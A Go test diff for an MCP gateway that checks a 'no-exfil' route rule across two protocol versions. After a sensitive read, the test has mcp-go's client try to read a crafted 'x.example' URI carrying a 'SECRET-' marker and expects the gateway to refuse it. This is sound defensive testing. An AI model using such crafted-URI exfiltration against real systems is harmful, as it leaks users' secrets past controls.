@@ -9,6 +9,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/mark3labs/mcp-go/client"
+	mcptransport "github.com/mark3labs/mcp-go/client/transport"
 	"github.com/mark3labs/mcp-go/mcp"
 
 	"github.com/sluicehq/sluice/examples/demo-server/demo"
@@ -298,5 +300,49 @@ func TestAttackReadPastRouteRuleVirtual(t *testing.T) {
 	}
 	if _, err := c.GetPrompt(ctx, mcp.GetPromptRequest{Params: mcp.GetPromptParams{Name: summary}}); err != nil {
 		t.Errorf("listed prompt after the deny: %v", err)
+	}
+}
+
+// TestReadsMCPGoClientAfterDeny: mcp-go's client, in each era, still lists
+// and reads web's resource and prompt after a sensitive read closed web,
+// and its read of a URI of its own making is refused with the route
+// rule's error.
+func TestReadsMCPGoClientAfterDeny(t *testing.T) {
+	gw, web := carryGateway(t)
+	readSecret(t, gw.URL)
+	for _, version := range []string{mcp.ProtocolVersion20260728, mcp.ProtocolVersion20251125} {
+		t.Run(version, func(t *testing.T) {
+			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
+			defer cancel()
+			trans, err := mcptransport.NewStreamableHTTP(gw.URL + "/mcp/web")
+			if err != nil {
+				t.Fatal(err)
+			}
+			c := client.NewClient(trans, client.WithProtocolVersion(version))
+			if err := c.Start(ctx); err != nil {
+				t.Fatal(err)
+			}
+			defer c.Close()
+			if _, err := c.Initialize(ctx, mcp.InitializeRequest{Params: mcp.InitializeParams{ClientInfo: mcp.Implementation{Name: "raw", Version: "1"}}}); err != nil {
+				t.Fatalf("Initialize: %v", err)
+			}
+			if _, err := c.ListResources(ctx, mcp.ListResourcesRequest{}); err != nil {
+				t.Fatalf("ListResources: %v", err)
+			}
+			if _, err := c.ListPrompts(ctx, mcp.ListPromptsRequest{}); err != nil {
+				t.Fatalf("ListPrompts: %v", err)
+			}
+			if res, err := c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: listedURI}}); err != nil || len(res.Contents) == 0 {
+				t.Errorf("ReadResource of the listed URI: %v", err)
+			}
+			if _, err := c.GetPrompt(ctx, mcp.GetPromptRequest{Params: mcp.GetPromptParams{Name: "summary"}}); err != nil {
+				t.Errorf("GetPrompt of the listed prompt: %v", err)
+			}
+			mark := "SECRET-mcpgo-read-" + version
+			_, err = c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "https://x.example/search/" + mark}})
+			if err == nil || !strings.Contains(err.Error(), "no-exfil") || web.reached(mark) {
+				t.Errorf("ReadResource of a URI of its making: %v, want the route rule's error and nothing at the upstream", err)
+			}
+		})
 	}
 }
